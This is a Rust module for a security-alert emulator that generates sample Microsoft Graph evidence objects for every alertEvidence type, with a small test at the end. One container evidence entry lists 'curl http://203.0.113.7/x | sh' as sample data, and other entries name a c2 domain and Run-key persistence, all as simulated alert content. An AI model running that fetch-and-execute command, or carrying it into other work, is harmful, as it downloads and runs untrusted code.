//! Every v1.0 evidence type of Microsoft's generated SDK models (`alertEvidence` and its 48
//! derived types in msgraph-sdk 1.65), so a client meets, in the emulator, the types it does not know yet: a
//! Kubernetes pod, a SAS token, a GitHub repository. Alerts carry their own evidence (device,
//! file, process, user, IP, URL, mailbox, message, mail cluster) from the world; each Graph
//! alert also carries one of the other types, picked from its id, so the whole world shows
//! every type.

use serde_json::{Value, json};

/// The `@odata.type` names (without `#microsoft.graph.security.`) of every derived type of
/// `alertEvidence` in the SDK models.
pub const ALL: &[&str] = &[
    "activeDirectoryDomainEvidence",
    "aiAgentEvidence",
    "amazonResourceEvidence",
    "analyzedMessageEvidence",
    "azureResourceEvidence",
    "blobContainerEvidence",
    "blobEvidence",
    "cloudApplicationEvidence",
    "cloudLogonRequestEvidence",
    "cloudLogonSessionEvidence",
    "containerEvidence",
    "containerImageEvidence",
    "containerRegistryEvidence",
    "deviceEvidence",
    "dnsEvidence",
    "fileEvidence",
    "fileHashEvidence",
    "gitHubOrganizationEvidence",
    "gitHubRepoEvidence",
    "gitHubUserEvidence",
    "googleCloudResourceEvidence",
    "hostLogonSessionEvidence",
    "ioTDeviceEvidence",
    "ipEvidence",
    "kubernetesClusterEvidence",
    "kubernetesControllerEvidence",
    "kubernetesNamespaceEvidence",
    "kubernetesPodEvidence",
    "kubernetesSecretEvidence",
    "kubernetesServiceAccountEvidence",
    "kubernetesServiceEvidence",
    "mailboxConfigurationEvidence",
    "mailboxEvidence",
    "mailClusterEvidence",
    "malwareEvidence",
    "networkConnectionEvidence",
    "nicEvidence",
    "oauthApplicationEvidence",
    "processEvidence",
    "registryKeyEvidence",
    "registryValueEvidence",
    "sasTokenEvidence",
    "securityGroupEvidence",
    "servicePrincipalEvidence",
    "submissionMailEvidence",
    "teamsMessageEvidence",
    "urlEvidence",
    "userEvidence",
];

/// The types the world's own entities already produce.
const FROM_ENTITIES: &[&str] = &[
    "analyzedMessageEvidence",
    "deviceEvidence",
    "fileEvidence",
    "ipEvidence",
    "mailboxEvidence",
    "mailClusterEvidence",
    "processEvidence",
    "urlEvidence",
    "userEvidence",
];

/// The types only this module produces.
fn extra_types() -> impl Iterator<Item = &'static str> {
    ALL.iter().copied().filter(|t| !FROM_ENTITIES.contains(t))
}

/// The extra evidence of the alert with id `alert_id`: its type and its own properties (the
/// caller adds the base `alertEvidence` ones).
pub(crate) fn extra_for(alert_id: &str) -> (&'static str, Value) {
    // FNV-1a: stable across runs and platforms.
    let h = alert_id.bytes().fold(0xcbf2_9ce4_8422_2325_u64, |h, b| {
        (h ^ u64::from(b)).wrapping_mul(0x0100_0000_01b3)
    });
    let types: Vec<&'static str> = extra_types().collect();
    let n = h % 1000;
    let kind = types
        .get(usize::try_from(h % types.len().max(1) as u64).unwrap_or(0))
        .copied()
        .unwrap_or("malwareEvidence");
    (kind, properties(kind, n))
}

fn properties(kind: &str, n: u64) -> Value {
    let sub = "3f2504e0-4f89-11d3-9a0c-0305e82c3301";
    match kind {
        "activeDirectoryDomainEvidence" => json!({
            "activeDirectoryDomainName": format!("corp{n}.contoso.com"), "trustedDomains": []}),
        "aiAgentEvidence" => json!({
            "agentId": format!("{n:08x}-7777-4000-8000-000000000000"), "agentName": format!("Invoice helper {n}"),
            "hostingPlatformType": "copilotStudio", "instructions": "Answer billing questions."}),
        "teamsMessageEvidence" => json!({
            "campaignId": null, "channelId": format!("19:{n:x}@thread.tacv2"), "deliveryAction": "delivered", "deliveryLocation": "teams",
            "files": [], "groupId": format!("{n:08x}-8888-4000-8000-000000000000"), "isExternal": true, "isOwned": false,
            "lastModifiedDateTime": "2026-11-30T09:30:00Z", "messageDirection": "inbound", "messageId": format!("{}", 1_700_000_000_000_u64 + n),
            "owningTenantId": sub, "parentMessageId": null, "receivedDateTime": "2026-11-30T09:30:00Z", "recipients": ["ana@contoso.com"],
            "senderFromAddress": "helpdesk@example.net", "senderIP": "198.51.100.23", "sourceAppName": "Microsoft Teams", "sourceId": null,
            "subject": "Password expires today", "suspiciousRecipients": ["ana@contoso.com"], "threadId": format!("19:{n:x}@thread.v2"),
            "threadType": "chat", "urls": []}),
        "amazonResourceEvidence" => json!({
            "amazonAccountId": format!("1234567{n:05}"), "amazonResourceId": format!("arn:aws:ec2:eu-west-1:123456789012:instance/i-0{n:016x}"),
            "resourceName": format!("i-0{n:016x}"), "resourceType": "AWS::EC2::Instance"}),
        "azureResourceEvidence" => json!({
            "resourceId": format!("/subscriptions/{sub}/resourceGroups/prod/providers/Microsoft.Compute/virtualMachines/vm{n}"),
            "resourceName": format!("vm{n}"), "resourceType": "Virtual Machine"}),
        "blobContainerEvidence" => json!({
            "name": format!("backups{n}"), "url": format!("https://contosostore.blob.core.windows.net/backups{n}"),
            "storageResource": {"resourceId": format!("/subscriptions/{sub}/resourceGroups/prod/providers/Microsoft.Storage/storageAccounts/contosostore"), "resourceName": "contosostore", "resourceType": "Storage accounts"}}),
        "blobEvidence" => json!({
            "name": format!("dump{n}.zip"), "url": format!("https://contosostore.blob.core.windows.net/backups/dump{n}.zip"), "etag": format!("0x8D{n:012X}"),
            "fileHashes": [{"algorithm": "sha256", "value": format!("{n:064x}")}],
            "blobContainer": {"name": "backups", "url": "https://contosostore.blob.core.windows.net/backups"}}),
        "cloudApplicationEvidence" => json!({
            "appId": 11161 + n, "displayName": "Microsoft Exchange Online", "instanceId": 0, "instanceName": "Microsoft Exchange Online", "saasAppId": 11161, "stream": null}),
        "cloudLogonRequestEvidence" => {
            json!({"requestId": format!("{n:08x}-7b1c-4a55-9f0e-2d7c1c0e4b11")})
        }
        "cloudLogonSessionEvidence" => json!({
            "account": {"userAccount": {"accountName": "ana", "domainName": "CONTOSO", "userPrincipalName": "ana@contoso.com"}},
            "browser": "Edge 120.0", "deviceName": format!("laptop-{n}"), "operatingSystem": "Windows 11", "protocol": "OAuth2",
            "sessionId": format!("{n:08x}-0000-4000-8000-000000000001"), "startUtcDateTime": "2026-11-30T08:00:00Z", "userAgent": "Mozilla/5.0", "previousLogonDateTime": null}),
        "containerEvidence" => json!({
            "containerId": format!("{n:064x}"), "name": "web", "command": ["/bin/sh"], "args": ["-c", "curl http://203.0.113.7/x | sh"], "isPrivileged": true,
            "image": {"imageId": "contoso.azurecr.io/web:1.4", "digestImage": null, "registry": {"registry": "contoso.azurecr.io"}}, "pod": null}),
        "containerImageEvidence" => {
            json!({"imageId": format!("contoso.azurecr.io/web:1.{n}"), "digestImage": null, "registry": {"registry": "contoso.azurecr.io"}})
        }
        "containerRegistryEvidence" => json!({"registry": "contoso.azurecr.io"}),
        "dnsEvidence" => json!({
            "domainName": format!("c2-{n}.example.net"), "dnsServerIp": {"ipAddress": "10.0.0.2"}, "hostIpAddress": {"ipAddress": "10.0.4.17"},
            "ipAddresses": [{"ipAddress": "203.0.113.7"}]}),
        "fileHashEvidence" => json!({"algorithm": "sha256", "value": format!("{n:064x}")}),
        "gitHubOrganizationEvidence" => json!({
            "company": "Contoso", "displayName": "Contoso", "email": "github@contoso.com", "login": "contoso", "orgId": format!("{}", 4_000_000 + n), "webUrl": "https://github.com/contoso"}),
        "gitHubRepoEvidence" => json!({
            "baseUrl": format!("https://github.com/contoso/service-{n}"), "login": "contoso", "owner": "contoso", "ownerType": "Organization", "repoId": format!("{}", 70_000_000 + n)}),
        "gitHubUserEvidence" => json!({
            "email": "dev@contoso.com", "login": format!("dev{n}"), "name": "Dev", "userId": format!("{}", 90_000_000 + n), "webUrl": format!("https://github.com/dev{n}")}),
        "googleCloudResourceEvidence" => json!({
            "fullResourceName": format!("//compute.googleapis.com/projects/contoso-prod/zones/europe-west1-b/instances/gce-{n}"), "location": "europe-west1-b",
            "locationType": "zonal", "projectId": "contoso-prod", "projectNumber": 1_234_567_890 + n, "resourceName": format!("gce-{n}"), "resourceType": "compute.instances"}),
        "hostLogonSessionEvidence" => json!({
            "account": {"userAccount": {"accountName": "svc-backup", "domainName": "CONTOSO"}}, "host": {"deviceDnsName": format!("srv-{n}.corp.contoso.com")},
            "sessionId": format!("0x{n:x}"), "startUtcDateTime": "2026-11-30T08:00:00Z", "endUtcDateTime": null}),
        "ioTDeviceEvidence" => json!({
            "ioTHub": null, "deviceId": format!("iot-{n}"), "deviceName": format!("camera-{n}"), "owners": [], "ioTSecurityAgentId": null, "deviceType": "Camera",
            "source": "microsoft", "sourceRef": null, "manufacturer": "Contoso Devices", "model": "C-100", "operatingSystem": "Linux", "firmwareVersion": "2.1",
            "ipAddress": {"ipAddress": "10.0.9.14"}, "macAddress": "00-15-5D-01-02-03", "protocols": ["HTTP"], "serialNumber": format!("SN{n:08}"), "site": "Lab",
            "zone": "Default", "sensor": null, "importance": "normal", "purdueLayer": null, "isProgramming": false, "isAuthorizedDevice": true, "deviceSubType": null,
            "deviceTagsByCategory": [], "devicePageLink": null, "nics": []}),
        "kubernetesClusterEvidence" => json!({
            "cloudResource": {"resourceId": format!("/subscriptions/{sub}/resourceGroups/aks/providers/Microsoft.ContainerService/managedClusters/aks{n}")},
            "distribution": "AKS", "name": format!("aks{n}"), "platform": "azure", "version": "1.29"}),
        "kubernetesControllerEvidence" => {
            json!({"name": format!("web-{n}"), "namespace": {"name": "prod"}, "type": "Deployment", "labels": {"app": "web"}})
        }
        "kubernetesNamespaceEvidence" => {
            json!({"cluster": {"name": "aks1"}, "labels": {}, "name": format!("ns-{n}")})
        }
        "kubernetesPodEvidence" => json!({
            "name": format!("web-{n}-7d4b9"), "namespace": {"name": "prod"}, "podIp": {"ipAddress": "10.244.1.7"}, "labels": {"app": "web"},
            "containers": [], "ephemeralContainers": [], "initContainers": [], "controller": null, "serviceAccount": {"name": "default"}}),
        "kubernetesSecretEvidence" => {
            json!({"name": format!("db-password-{n}"), "namespace": {"name": "prod"}, "secretType": "Opaque"})
        }
        "kubernetesServiceAccountEvidence" => {
            json!({"name": format!("builder-{n}"), "namespace": {"name": "ci"}})
        }
        "kubernetesServiceEvidence" => json!({
            "name": format!("web-{n}"), "namespace": {"name": "prod"}, "clusterIP": {"ipAddress": "10.0.12.4"}, "externalIPs": [], "labels": {}, "selector": {"app": "web"},
            "servicePorts": [{"port": 443, "protocol": "tcp", "targetPort": "8443"}], "serviceType": "loadBalancer"}),
        "mailboxConfigurationEvidence" => json!({
            "configurationId": format!("{n:08x}"), "configurationType": "mailForwardingRule", "displayName": "Forward to external",
            "externalDirectoryObjectId": format!("{n:08x}-1111-4000-8000-000000000000"), "mailboxPrimaryAddress": "ana@contoso.com", "upn": "ana@contoso.com"}),
        "malwareEvidence" => {
            json!({"category": "Trojan", "files": [], "name": format!("Trojan:Win32/Emulated.{n}"), "processes": []})
        }
        "networkConnectionEvidence" => json!({
            "destinationAddress": {"ipAddress": "203.0.113.7"}, "destinationPort": "443", "protocol": "tcp",
            "sourceAddress": {"ipAddress": "10.0.4.17"}, "sourcePort": format!("{}", 49152 + n)}),
        "nicEvidence" => {
            json!({"ipAddress": {"ipAddress": "10.0.4.17"}, "macAddress": format!("00-15-5D-00-{:02X}-{:02X}", n / 256 % 256, n % 256), "vlans": []})
        }
        "oauthApplicationEvidence" => {
            json!({"appId": format!("{n:08x}-2222-4000-8000-000000000000"), "displayName": "Mail Sync Helper", "objectId": null, "publisher": "Unverified"})
        }
        "registryKeyEvidence" => {
            json!({"registryHive": "HKEY_LOCAL_MACHINE", "registryKey": format!("SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater{n}")})
        }
        "registryValueEvidence" => json!({
            "mdeDeviceId": null, "registryHive": "HKEY_LOCAL_MACHINE", "registryKey": "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
            "registryValue": format!("C:\\Users\\Public\\upd{n}.exe"), "registryValueName": "Updater", "registryValueType": "String"}),
        "sasTokenEvidence" => json!({
            "allowedIpAddresses": "0.0.0.0-255.255.255.255", "allowedResourceTypes": ["container", "object"], "allowedServices": ["blob"],
            "expiryDateTime": "2027-01-01T00:00:00Z", "permissions": ["read", "list"], "protocol": "https", "signatureHash": format!("{n:064x}"),
            "signedWith": "key1", "startDateTime": "2026-11-01T00:00:00Z", "storageResource": {"resourceName": "contosostore"}}),
        "securityGroupEvidence" => {
            json!({"displayName": "Domain Admins", "securityGroupId": format!("{n:08x}-3333-4000-8000-000000000000")})
        }
        "servicePrincipalEvidence" => json!({
            "appId": format!("{n:08x}-4444-4000-8000-000000000000"), "appOwnerTenantId": sub, "servicePrincipalName": "Backup Automation",
            "servicePrincipalObjectId": format!("{n:08x}-5555-4000-8000-000000000000"), "servicePrincipalType": "application", "tenantId": sub}),
        "submissionMailEvidence" => json!({
            "networkMessageId": format!("{n:08x}-6666-4000-8000-000000000000"), "recipient": "ana@contoso.com", "reportType": "Phish", "sender": "billing@example.net",
            "senderIp": "198.51.100.23", "subject": "Invoice overdue", "submissionDateTime": "2026-11-30T09:00:00Z", "submissionId": format!("{n}"), "submitter": "ana@contoso.com"}),
        _ => json!({}),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Every extra type has its own properties, and the ones the world's entities make are not
    /// repeated here.
    #[test]
    fn every_extra_type_has_properties() {
        let extra: Vec<&str> = extra_types().collect();
        assert_eq!(extra.len() + FROM_ENTITIES.len(), ALL.len());
        for t in extra {
            let p = properties(t, 7);
            assert!(
                p.as_object().is_some_and(|o| !o.is_empty()),
                "{t} has no properties"
            );
        }
    }
}
